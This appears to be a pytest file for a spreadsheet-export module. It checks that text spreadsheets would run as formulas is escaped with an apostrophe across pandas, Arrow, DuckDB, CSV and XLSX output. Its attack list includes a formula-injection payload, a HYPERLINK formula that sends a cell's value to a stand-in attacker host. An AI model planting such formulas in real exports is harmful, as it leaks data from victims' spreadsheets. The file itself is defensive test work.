"""The spreadsheet rule: text that a spreadsheet would run gets a leading apostrophe, numbers stay numbers,
XLSX cells are typed as text and never fail on a control character."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from decimal import Decimal

import duckdb
import openpyxl
import pandas as pd
import pyarrow as pa
import pytest

from core.spreadsheet import (
    TRIGGERS,
    spreadsheet_arrow,
    spreadsheet_frame,
    spreadsheet_query,
    spreadsheet_relation,
    spreadsheet_sql,
    spreadsheet_text,
    xlsx_bytes,
)

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
HARMLESS = ["Starbucks", "", "a=b", "'already quoted", "1-2", " =1 (a space first)", "#N/A"]


def test_the_rule_prefixes_exactly_the_owasp_triggers():
    assert TRIGGERS == ("=", "+", "-", "@", "\t", "\r")
    assert [spreadsheet_text(t) for t in ATTACKS] == ["'" + t for t in ATTACKS]
    assert [spreadsheet_text(t) for t in HARMLESS] == HARMLESS


def test_duckdb_applies_the_same_rule_as_python():
    con = duckdb.connect()
    for text in [*ATTACKS, *HARMLESS]:
        (value,) = con.execute(f"SELECT {spreadsheet_sql('$t')}", {"t": text}).fetchone()
        assert value == spreadsheet_text(text)
    assert con.execute(f"SELECT {spreadsheet_sql('NULL::VARCHAR')}").fetchone() == (None,)


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": ["=1+1", "Coffee", None],
            "amount": [-12.5, 3.0, -0.01],
            "exact": [Decimal("-1.10"), Decimal("2.00"), None],
            "day": [date(2025, 1, 1), date(2025, 1, 2), None],
            "@header": ["x", "y", "z"],
        }
    )


def test_a_frame_keeps_numbers_and_neutralizes_text_and_headers():
    out = spreadsheet_frame(frame())
    assert out["name"].tolist()[:2] == ["'=1+1", "Coffee"] and pd.isna(out["name"].iloc[2])
    assert out["amount"].tolist() == [-12.5, 3.0, -0.01]  # negative amounts stay numbers
    assert out["exact"].tolist()[:2] == [Decimal("-1.10"), Decimal("2.00")]
    assert list(out.columns) == ["name", "amount", "exact", "day", "'@header"]
    assert frame()["name"].iloc[0] == "=1+1", "the caller's frame is left alone"


def test_an_arrow_table_and_a_duckdb_relation_follow_the_rule():
    table = pa.table({"name": ["-1", "ok", None], "n": [-1, 2, 3]})
    assert spreadsheet_arrow(table).to_pydict() == {"name": ["'-1", "ok", None], "n": [-1, 2, 3]}
    con = duckdb.connect()
    con.execute("CREATE TABLE t AS SELECT * FROM (VALUES ('=x', -5.25::DECIMAL(18,2)), ('y', 1)) v(\"=c\", amount)")
    relation = spreadsheet_relation(con.sql("SELECT * FROM t"))
    assert relation.columns == ["'=c", "amount"]
    assert relation.fetchall() == [("'=x", Decimal("-5.25")), ("y", Decimal("1.00"))]


def test_a_query_for_copy_streams_csv_with_the_rule(tmp_path):
    con = duckdb.connect()
    con.execute("CREATE TABLE t (name VARCHAR, amount DECIMAL(18,2))")
    con.execute("INSERT INTO t VALUES ('=1+1', -3.50), ('@x', 2), ('plain', -1)")
    select = spreadsheet_query(con, "SELECT * FROM t WHERE amount < $limit", {"limit": 10})
    out = tmp_path / "t.csv"
    con.execute(f"COPY ({select}) TO '{out}' (FORMAT csv, HEADER)", {"limit": 10})
    assert out.read_text().splitlines() == ["name,amount", "'=1+1,-3.50", "'@x,2.00", "plain,-1.00"]


def cells(data: bytes) -> list[openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_xlsx_has_no_formula_and_numbers_stay_numbers():
    data = xlsx_bytes(frame(), sheet="tx")
    found = cells(data)
    assert not [c.coordinate for c in found if c.data_type == "f"]
    assert all(c.data_type == "s" for c in found if isinstance(c.value, str))
    by_column = {c.column_letter: [] for c in found}
    for c in found:
        by_column[c.column_letter].append(c.value)
    assert by_column["A"] == ["name", "'=1+1", "Coffee", None]
    assert by_column["B"] == ["amount", -12.5, 3, -0.01]
    assert by_column["C"][1:] == [-1.1, 2, None]
    assert by_column["D"][1:3] == [datetime(2025, 1, 1), datetime(2025, 1, 2)]


@pytest.mark.parametrize("text", ["=1+1", "#N/A", "#DIV/0!", "=", "plain"])
def test_xlsx_text_is_typed_as_text_whatever_it_looks_like(text):
    (_, cell) = cells(xlsx_bytes(pd.DataFrame({"a": [text]})))
    assert cell.data_type == "s" and cell.value == spreadsheet_text(text)


def test_xlsx_drops_characters_it_cannot_hold_instead_of_failing():
    names = ["Caf\x1b[31mé\x07", "tab\tand\nnewline", "\x00nul", "x" * 40_000]
    found = cells(xlsx_bytes(pd.DataFrame({"merchant": names, "when": [datetime.now(UTC)] * 4})))
    values = [c.value for c in found if c.column_letter == "A"][1:]
    assert values[:3] == ["Caf[31mé", "tab\tand\nnewline", "nul"]
    assert len(values[3]) == 32_767  # Excel's limit for one cell
    assert all(isinstance(c.value, datetime) for c in found if c.column_letter == "B" and c.row > 1)
